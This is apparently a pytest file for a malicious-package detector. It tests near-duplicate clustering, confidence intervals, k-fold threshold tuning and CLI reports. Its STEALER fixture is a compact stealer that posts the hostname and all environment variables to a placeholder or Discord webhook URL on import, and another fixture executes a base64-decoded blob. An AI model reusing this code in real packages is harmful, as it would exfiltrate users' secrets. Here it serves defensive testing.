"""Cluster-aware validation: near-duplicates share a cluster (and so a fold), whatever name and
URL they were republished under; intervals are computed over clusters; thresholds are tuned on
training folds only; targets are checked per group. And `pkgtrace eval` reports it all.

TEST FIXTURES, NOT MALWARE: the "malicious" packages are source-text patterns only."""

from __future__ import annotations


import pytest

from eval.corpus import corpus_folder
from clirun import run_cli, run_cli_json
from services import FixtureRegistry
from verdict.fixtures import sdist
from pkgtrace.eval.cluster import clusters, signature, tokens
from pkgtrace.eval.corpus import Item, take
from pkgtrace.eval.validate import fold_of, kfold, missed_targets, validate, wilson

STEALER = ("import os, requests\n\ndef collect():\n    data = {{'h': os.uname()[1], 'env': dict(os.environ)}}\n"
           "    for k in sorted(data):\n        data[k] = str(data[k])\n"
           "    requests.post('{url}', json=data, timeout=5)\n\ncollect()\n")
OTHER = ("import math\n\ndef area(r):\n    return math.pi * r * r\n\n"
         "def perimeter(r):\n    return 2 * math.pi * r\n\nclass Circle:\n    def __init__(self, r):\n        self.r = r\n")


def sig(code: str, name: str = "pkg"):
    return signature(tokens([("pkg/__init__.py", code)], name))


def test_republished_copies_cluster_together_and_different_code_does_not():
    a = sig(STEALER.format(url="https://a.example/x"), "colorsx")
    b = sig(STEALER.format(url="https://b.example/y").replace("collect", "colorsy_collect"), "colorsy")
    c = sig(OTHER)
    # The package's own name and short literals are normalised away.
    d = sig("import colorsz\n" + STEALER.format(url="https://c.example/z"), "colorsz")
    got = clusters({"a": a, "b": b, "c": c, "d": d, "e": None})
    assert got["a"] == got["d"]
    assert got["c"] != got["a"] and got["e"] == "e"
    # Renaming a function keeps most shingles: still the family.
    assert got["b"] == got["a"]


def test_a_long_payload_literal_keeps_payload_variants_apart():
    blob1, blob2 = "A" * 60 + "1", "B" * 60 + "2"
    code = "import base64\nexec(base64.b64decode('{}'))\n"
    assert clusters({"x": sig(code.format(blob1)), "y": sig(code.format(blob2))}) == {"x": "x", "y": "y"}


def test_wilson_interval():
    lo, hi = wilson(97, 100)
    assert 91.0 < lo < 92.5 and 98.9 < hi < 99.5
    assert wilson(0, 200)[0] == 0.0 and 1.8 < wilson(0, 200)[1] < 1.95
    assert wilson(0, 0) is None


def _r(key, side, label, score, sig_, source="", eco="pypi", rules=()):
    return {"key": key, "side": side, "ecosystem": eco, "name": key, "version": "1", "label": label,
            "score": score, "rules": list(rules), "minhash": sig_, "source": source, "error": None}


def test_rates_count_each_cluster_once_and_folds_keep_clusters_whole():
    fam = sig(STEALER.format(url="https://a.example/x"))
    results = [_r(f"m{i}", "malicious", "malicious", 90.0, fam, rules=["R1"]) for i in range(20)]
    results.append(_r("lone", "malicious", "benign", 10.0, sig(OTHER), rules=[]))
    results += [_r(f"b{i}", "benign", "benign", 0.0, None, source="benign-dev-stream-pypi")
                for i in range(5)]
    results.append(_r("fp", "benign", "suspicious", 45.0, sig("import os\nprint(os.sep)\n" * 3),
                      source="benign-dev-pypi", rules=["R1"]))
    v = validate(results, k=3, seed=0, max_fp=0.5)
    mal = v["rates"]["malicious/pypi"]["malicious"]
    assert mal["k"] == 20 and mal["n"] == 21 and mal["clusters"] == 2 and mal["cluster_rate"] == 50.0
    assert v["rates"]["benign/pypi/popular"]["not_benign"]["k"] == 1
    assert v["rates"]["benign/pypi/stream"]["not_benign"]["k"] == 0
    # the whole family sits in one fold
    assert sorted(f["malicious"] for f in v["kfold"]["folds"] if f["malicious"]) in ([1, 20], [21])
    assert v["missed_clusters"][0]["examples"] == ["pypi/lone@1"]
    r1 = next(r for r in v["rules"] if r["rule"] == "R1")
    assert r1["malicious"] == 20 and r1["malicious_clusters"] == 1 and r1["benign"] == 1
    assert set(missed_targets(v, 97.0, 0.5)) == {"malicious/pypi: 95.24% < 97.0%",
                                                 "benign/pypi/popular: 100.0% > 0.5%"}
    assert missed_targets(v, 95.0, 100.0) == []


def test_kfold_threshold_is_tuned_on_training_folds_only():
    # Each benign release is its own cluster; one scores high. The fold holding it must be judged
    # with a threshold tuned without it, so it shows up as a false positive out of fold.
    rs = [_r(f"b{i}", "benign", "benign", 10.0 + i, None) for i in range(10)]
    rs.append(_r("hot", "benign", "benign", 99.0, None))
    rs += [_r(f"m{i}", "malicious", "malicious", 80.0, None) for i in range(10)]
    out = kfold(rs, {r["key"]: r["key"] for r in rs}, 3, 0, max_fp=0.0)
    fold_hot = fold_of("hot", 3, 0)
    t = next(f["threshold"] for f in out["folds"] if f["fold"] == fold_hot)
    assert t < 99.0  # the threshold of hot's fold never saw it
    assert out["out_of_fold"]["benign/pypi/popular"]["k"] >= 1


def test_seeded_sample_is_reproducible_and_per_list():
    items = [Item("benign", "pypi", f"n{i}", None, source="benign-a-pypi") for i in range(50)]
    items += [Item("benign", "pypi", f"s{i}", None, source="benign-stream-pypi") for i in range(50)]
    a, b = take(items, 5, seed=3), take(items, 5, seed=3)
    assert a == b and len(a) == 10
    assert {i.source for i in a} == {"benign-a-pypi", "benign-stream-pypi"}
    assert take(items, 5, seed=4) != a and take(items, 5)[:5] == items[:5]


@pytest.fixture
def corpus(tmp_path, monkeypatch):
    # one family republished three times, and a lone miss
    family = {f"fam{i}/1.0/fam{i}-1.0.tar.gz": sdist(f"fam{i}", {
        "setup.py": "from setuptools import setup\nsetup()\n",
        f"fam{i}/__init__.py": STEALER.replace("requests.post('{url}'", "requests.post('https://discord.com/api/webhooks/1/x'")})
        for i in range(3)}
    family["quiet/1.0/quiet-1.0.tar.gz"] = sdist("quiet", {"setup.py": "from setuptools import setup\nsetup()\n",
                                                           "quiet/__init__.py": OTHER})
    folder = corpus_folder(tmp_path, family, {"benign-test-stream-pypi.txt": "goodpkg\n"})
    reg = FixtureRegistry()
    reg.add_pypi_release("goodpkg", "2.0.0", {"goodpkg/__init__.py": OTHER})
    monkeypatch.setenv("PKGTRACE_PYPI_URL", reg.url)
    yield folder
    reg.close()


def test_eval_cli_reports_clusters_intervals_and_exit_codes(corpus, tmp_path):
    work = tmp_path / "w"
    out = run_cli_json("eval", str(corpus), "--work", str(work), "-j", "1", "--no-metadata", "--folds", "2")
    v = out["summary"]["validation"]
    m = v["rates"]["malicious/pypi"]["malicious"]
    assert m["n"] == 4 and m["k"] == 3 and m["clusters"] == 2 and m["cluster_rate"] == 50.0
    assert m["ci95"][0] < 50.0 < m["ci95"][1]
    assert v["rates"]["benign/pypi/stream"]["not_benign"]["k"] == 0
    assert [c["examples"] for c in v["missed_clusters"]] == [["pypi/quiet@1.0"]]
    assert v["kfold"]["k"] == 2 and v["kfold"]["out_of_fold"]
    proc = run_cli("eval", str(corpus), "--work", str(work), "--min-detection", "97", check=False)
    assert proc.returncode == 1 and "malicious/pypi: 75.0% < 97.0%" in proc.stderr
    proc = run_cli("eval", str(corpus), "--work", str(work), "--min-detection", "70", "--max-fp", "0.5", check=False)
    assert proc.returncode == 0 and "near-duplicate clusters" in proc.stderr
    assert run_cli("eval", str(corpus), "--folds", "1", check=False).returncode == 2


def test_eval_stored_only_reports_on_what_an_interrupted_run_analysed(corpus, tmp_path):
    work = tmp_path / "w"
    run_cli_json("eval", str(corpus), "--work", str(work), "-j", "1", "--no-metadata", "--side", "malicious")
    for p in (work / "reports").glob("*quiet*"):
        p.unlink()
    out = run_cli_json("eval", str(corpus), "--work", str(work), "--stored-only", "--rejudge", "--folds", "0")
    assert {r["name"] for r in out["results"]} == {"fam0", "fam1", "fam2"}  # no benign download either
    assert out["summary"]["validation"]["kfold"] is None
